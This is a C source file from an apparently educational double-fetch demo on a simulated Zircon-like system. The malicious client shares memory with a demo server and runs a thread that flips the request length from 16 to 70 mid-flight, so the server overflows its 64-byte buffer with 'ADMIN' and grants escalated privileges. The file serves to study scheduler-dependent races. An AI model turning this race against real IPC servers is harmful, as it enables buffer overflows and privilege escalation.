/* client.c — double_fetch, the malicious client (built instrumented, like
 * the server).
 *
 * What it models: a client that follows the protocol on the surface and
 * races the server underneath. It shares a VMO with the server, writes an
 * honest request (len 16), and tells the server to look. Its second thread
 * keeps flipping `len` in the shared memory between 16 and 70 while the
 * request is in flight; the 6 bytes past the server's 64-byte buffer are
 * "ADMIN". Whether the server copies 70 bytes depends on where the
 * scheduler switches threads: never under FIFO (nothing preempts the
 * server between its two reads), under some seeds of the random walk, and
 * a given seed always gives the same answer (replay).
 *
 * argv: client [REQUESTS] (default 1). Startup handles: PA_HND(PA_USER0, 0),
 * a channel to the server. Exit code: number of replies whose role was
 * no longer "guest" (0 = the attack failed).
 * Read next: server.c.
 */
#include <capsim/app.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zircon/process.h>
#include <zircon/processargs.h>
#include <zircon/status.h>
#include <zircon/syscalls.h>

#include "double_fetch.h"

#define CLIENT_HONEST_LEN 16u
#define CLIENT_EVIL_LEN (DF_BODY_MAX + 6u)

static volatile DfRequest *client_req;
static volatile int client_stop;

/* Keep the evil length in place for a few basic blocks (preemption
 * points of the instrumented build) before putting the honest one back. */
static void client_hold(void)
{
    for (volatile int i = 0; i < 2; i++) {
    }
}

static void client_flipper(uintptr_t a, uintptr_t b)
{
    (void)a, (void)b;
    while (!client_stop) {
        client_req->len = CLIENT_EVIL_LEN;
        client_hold();
        client_req->len = CLIENT_HONEST_LEN;
        capsim_yield();
    }
    zx_thread_exit();
}

static zx_status_t client_setup(zx_handle_t ch)
{
    zx_handle_t vmo, dup;
    zx_vaddr_t addr = 0;
    zx_status_t s = zx_vmo_create(DF_VMO_SIZE, 0, &vmo);
    if (s == ZX_OK)
        s = zx_object_set_property(vmo, ZX_PROP_NAME, "shared-request", 14);
    if (s == ZX_OK)
        s = zx_vmar_map(zx_vmar_root_self(), ZX_VM_PERM_READ | ZX_VM_PERM_WRITE, 0, vmo, 0,
                        DF_VMO_SIZE, &addr);
    if (s == ZX_OK)
        s = zx_handle_duplicate(vmo, ZX_RIGHT_READ | ZX_RIGHT_MAP | ZX_RIGHT_TRANSFER, &dup);
    if (s == ZX_OK)
        s = zx_channel_write(ch, 0, "vmo", 4, &dup, 1);
    if (s != ZX_OK)
        return s;
    client_req = (volatile DfRequest *)addr;
    for (uint32_t i = 0; i < DF_DATA_SIZE; i++)
        client_req->data[i] = i < DF_BODY_MAX ? 'A' : '\0';
    memcpy((char *)client_req->data + DF_BODY_MAX, "ADMIN", 5);
    client_req->len = CLIENT_HONEST_LEN;
    return ZX_OK;
}

static int client_request(zx_handle_t ch, uint32_t seq)
{
    client_req->seq = seq;
    client_req->len = CLIENT_HONEST_LEN;
    DfReply rep;
    uint32_t n = 0;
    if (zx_channel_write(ch, 0, "req", 4, NULL, 0) != ZX_OK ||
        zx_object_wait_one(ch, ZX_CHANNEL_READABLE, ZX_TIME_INFINITE, NULL) != ZX_OK ||
        zx_channel_read(ch, 0, &rep, NULL, sizeof rep, 0, &n, NULL) != ZX_OK || n != sizeof rep)
        return -1;
    rep.role[sizeof rep.role - 1] = '\0';
    printf("client: request %u: %s, %u bytes copied, role '%s'\n", seq,
           zx_status_get_string(rep.status), rep.copied, rep.role);
    return strcmp(rep.role, "guest") != 0;
}

int main(int argc, char **argv)
{
    int requests = argc > 1 ? atoi(argv[1]) : 1;
    zx_handle_t ch = zx_take_startup_handle(PA_HND(PA_USER0, 0));
    zx_handle_t th;
    zx_status_t s = client_setup(ch);
    if (s == ZX_OK)
        s = zx_thread_create(zx_process_self(), "flipper", 7, 0, &th);
    if (s == ZX_OK)
        s = zx_thread_start(th, (uintptr_t)client_flipper, 0, 0, 0);
    if (s != ZX_OK) {
        printf("client: setup failed: %s\n", zx_status_get_string(s));
        return 100;
    }
    int escalated = 0;
    for (int i = 0; i < requests; i++) {
        int r = client_request(ch, (uint32_t)i);
        if (r < 0)
            break;
        escalated += r;
    }
    client_stop = 1;
    zx_object_wait_one(th, ZX_THREAD_TERMINATED, ZX_TIME_INFINITE, NULL);
    printf("client: %s\n", escalated ? "the server now thinks I am ADMIN" : "still a guest");
    return escalated;
}
